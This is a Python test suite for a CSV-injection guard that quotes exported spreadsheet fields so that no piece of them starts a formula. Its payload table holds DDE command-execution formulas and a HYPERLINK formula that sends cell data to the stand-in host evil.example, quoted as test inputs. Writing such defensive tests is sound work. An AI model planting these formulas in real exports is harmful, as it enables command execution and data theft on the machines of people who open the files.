"""CSV injection guard: no piece of an exported field may start a spreadsheet formula."""

from __future__ import annotations

import csv
import io
import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from bleu_core.csv_safety import (
    FORMULA_TRIGGERS,
    formula_risk,
    neutralize_cell,
    neutralize_row,
    write_safe_csv,
)

_PLAIN_NUMBER = re.compile(r"[+-]?(?:[0-9]+(?:\.[0-9]*)?|\.[0-9]+)(?:[eE][+-]?[0-9]+)?", re.ASCII)


def dangerous_pieces(text: str) -> list[str]:
    """Pieces a split on , ; TAB CR LF gives that a spreadsheet would read as a formula."""
    pieces = re.split(r"[,;\t\r\n]", text)
    return [
        p
        for p in pieces
        if p.lstrip(" ")[:1] in set(FORMULA_TRIGGERS) - {""}
        and p.lstrip(" ")
        and not _PLAIN_NUMBER.fullmatch(p.strip())
    ]


# Payloads from the OWASP "CSV Injection" page and the issue's bypass.
PAYLOADS = [
    ("x;=cmd|' /C calc'!A0;", "x;'=cmd|' /C calc'!A0;"),
    ("=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"),
    (
        '=HYPERLINK("http://evil.example?x="&A1,"click")',
        '\'=HYPERLINK("http://evil.example?x="&A1,"click")',
    ),
    ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
    ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
    ("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"),
    ("Ana,=1+1", "Ana,'=1+1"),
    ("Ana\t@x", "Ana\t'@x"),
    ("Ana\r\n=1", "Ana\r\n'=1"),
    ("  =1", "  '=1"),
    ("\uff1dcmd", "'\uff1dcmd"),
    ("Smith, Ana", "Smith, Ana"),
    ("-1.5", "-1.5"),
    ("+3", "+3"),
    ("a;-2;b", "a;-2;b"),
    ("e-mail me", "e-mail me"),
    ("", ""),
]


@pytest.mark.parametrize(("raw", "safe"), PAYLOADS)
def test_known_payloads_are_neutralised_and_harmless_text_is_kept(raw: str, safe: str) -> None:
    assert neutralize_cell(raw) == safe
    assert dangerous_pieces(safe) == []


def test_non_text_values() -> None:
    assert neutralize_row([None, 3, -2.5, True]) == ["", "3", "-2.5", "True"]


def test_every_field_is_quoted_and_reads_back() -> None:
    out = write_safe_csv(["judge", "comment", "score"], [["x;=cmd", "fine, thanks", -1]])
    assert out.splitlines() == ['"judge","comment","score"', '"x;\'=cmd","fine, thanks","-1"']
    assert list(csv.reader(io.StringIO(out))) == [
        ["judge", "comment", "score"],
        ["x;'=cmd", "fine, thanks", "-1"],
    ]


@given(st.text(alphabet=st.sampled_from(list("=+-@\t\r\n,; a1.\uff1d'e")), max_size=40))
def test_no_split_of_a_neutralised_field_starts_a_formula(text: str) -> None:
    safe = neutralize_cell(text)
    assert dangerous_pieces(safe) == []
    assert formula_risk(safe) is False
    assert neutralize_cell(safe) == safe  # idempotent
    assert safe.replace("'", "") == text.replace("'", "")  # only quote marks are added
    if not formula_risk(text):
        assert safe == text


def test_campaign_export_of_the_issue_payload_splits_into_no_formula() -> None:
    from datetime import UTC, datetime

    from bleu_core.campaigns import StoredRating, ratings_to_csv

    t = datetime(2024, 5, 1, tzinfo=UTC)
    judge = "x;=cmd|' /C calc'!A0;"
    out = ratings_to_csv([StoredRating("K7P2QX", judge, "g", 0, "-1", "@sys", "fluency", 4, t, t)])
    row = out.splitlines()[1]
    assert row.startswith('"K7P2QX","x;\'=cmd|')  # every field quoted
    for separator in (",", ";", "\t"):
        for piece in row.replace('"', "").split(separator):
            assert not piece.lstrip(" ").startswith(tuple("=+-@")), (separator, piece)
    fields = next(csv.reader(io.StringIO(row)))
    assert fields[1] == "x;'=cmd|' /C calc'!A0;" and fields[4] == "'-1" and fields[5] == "'@sys"


@given(st.text(alphabet=st.sampled_from(list("=+-@\t\r\n,; a1.'")), max_size=30))
def test_strict_mode_guards_numbers_too(text: str) -> None:
    safe = neutralize_cell(text, keep_numbers=False)
    for piece in re.split(r"[,;\t\r\n]", safe):
        assert not piece.lstrip(" ")[:1] or piece.lstrip(" ")[0] not in "=+-@"
    assert neutralize_cell(safe, keep_numbers=False) == safe
